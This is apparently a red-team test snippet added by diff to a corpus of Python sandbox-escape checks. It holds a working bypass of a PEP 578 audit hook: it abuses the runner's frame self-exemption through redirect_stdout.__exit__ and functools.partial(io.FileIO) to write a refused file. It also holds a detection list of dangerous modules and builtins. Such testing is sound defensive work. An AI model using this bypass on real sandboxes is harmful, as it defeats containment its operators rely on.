@@ -1,0 +1,134 @@
+# technique: the audit hook returns at once for any event raised while a frame of the runner's own file is current ('this file's own checks'), and the runner's catch_warnings/redirect_stdout replacements call methods of objects the snippet supplies: __exit__(obj) runs obj.__dict__['saved'].pop(); with pop set to a C callable (functools.partial(io.FileIO, path, 'w'), io.FileIO from PrettyPrinter()._stream through the self exemption) the open event is raised with the runner's frame current and passes; redirect_stdout.__exit__ stores the returned file object in sys.stdout, where a new PrettyPrinter picks it up: a write to a path the hook refused a moment before goes through, and the file reads back
+# source: frame-based self-exemptions in Python audit hooks (PEP 578) + trusted helpers calling back into untrusted objects with a foreign self (137-139, 148)
+# note: the write goes to the child's private /tmp (the kernel layers still hold); it shows the runtime layer's open refusal bypassed; with a run-time format string's bound method (171) as the C callable, frame reads pass the same way
+# ---- escape check: the same block in every snippet of the corpus ----------
+# It reads no refused attribute and holds no dunder string constant itself,
+# so that a refusal is always the technique's, never the checker's.
+def dn(s):
+    return '_' * 2 + s + '_' * 2
+
+
+DANGER = frozenset((
+    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
+    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
+    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
+    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
+    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
+    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
+    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
+    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
+    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
+    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
+    'json.tool', '__main__',
+))
+REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
+                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
+                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))
+
+
+def what(o, depth=0):
+    """What forbidden thing o is, or None."""
+    try:
+        t = type(o).__name__
+        if t in ('frame', 'code'):
+            return t + ' object'
+        if t == 'module':
+            n = o.__name__
+            if n in DANGER or n.split('.')[0] in DANGER:
+                return 'module ' + n
+            return None
+        if t == 'dict':
+            if dn('import') in o and 'eval' in o and 'open' in o:
+                try:
+                    works = o['eval']('1+1') == 2
+                except BaseException:
+                    works = False
+                return 'real builtins dict' + (' (eval works)' if works else '')
+            if dn('builtins') in o:
+                n = o['__name__'] if '__name__' in o else '?'
+                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
+                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
+            return None
+        if t == 'builtin_function_or_method' and o.__name__ in REAL:
+            n = o.__name__
+            if n == 'eval':
+                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
+            return 'real builtin ' + n
+        if t in ('_Helper', 'Quitter', '_Printer'):
+            return 'site builtin ' + t
+    except BaseException:
+        return None
+    return None
+
+
+def check(label, o):
+    w = what(o)
+    if w:
+        print('ESCAPED', label + ':', w)
+        return True
+    print('BLOCKED', label + ': reached only a', type(o).__name__)
+    return False
+
+
+def attempt(label, fn):
+    try:
+        return check(label, fn())
+    except BaseException as e:
+        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
+        return False
+# ---- end of the escape check ----------------------------------------------
+
+import contextlib, functools, pprint
+
+
+def stream_of(self):
+    return self._stream
+
+
+STDOUT = stream_of(pprint.PrettyPrinter())
+FileIO = type(STDOUT.buffer.raw)  # io.FileIO
+
+
+class Saved:
+    pass
+
+
+class Carrier:
+    pass
+
+
+def set_stdout(value_factory):
+    # redirect_stdout.__exit__(obj): setattr(sys, 'stdout', obj.__dict__['saved'].pop())
+    saved = Saved()
+    saved.pop = value_factory
+    obj = Carrier()
+    obj.saved = saved
+    contextlib.redirect_stdout.__exit__(obj, None, None, None)
+
+
+def open_via_runner(path, mode):
+    set_stdout(functools.partial(FileIO, path, mode))  # opened in the runner's frame
+    f = stream_of(pprint.PrettyPrinter())  # sys.stdout is now the file
+    set_stdout(functools.partial(lambda: STDOUT))  # put the real stream back
+    return f
+
+
+try:
+    FileIO('/tmp/ts-escape-direct', 'w')
+    refused_before = False
+except BaseException as e:
+    refused_before = True
+    print('BLOCKED direct open:', type(e).__name__, str(e)[:100])
+try:
+    f = open_via_runner('/tmp/ts-escape-via-runner', 'w')
+    f.write(b'written past the audit hook')
+    f.close()
+    g = open_via_runner('/tmp/ts-escape-via-runner', 'r')
+    back = g.read()
+    g.close()
+    if refused_before and back == b'written past the audit hook':
+        print('ESCAPED open refused by the audit hook goes through in the runner frame:', back)
+    else:
+        print('BLOCKED nothing read back:', back)
+except BaseException as e:
+    print('BLOCKED via the runner:', type(e).__name__, str(e)[:160])
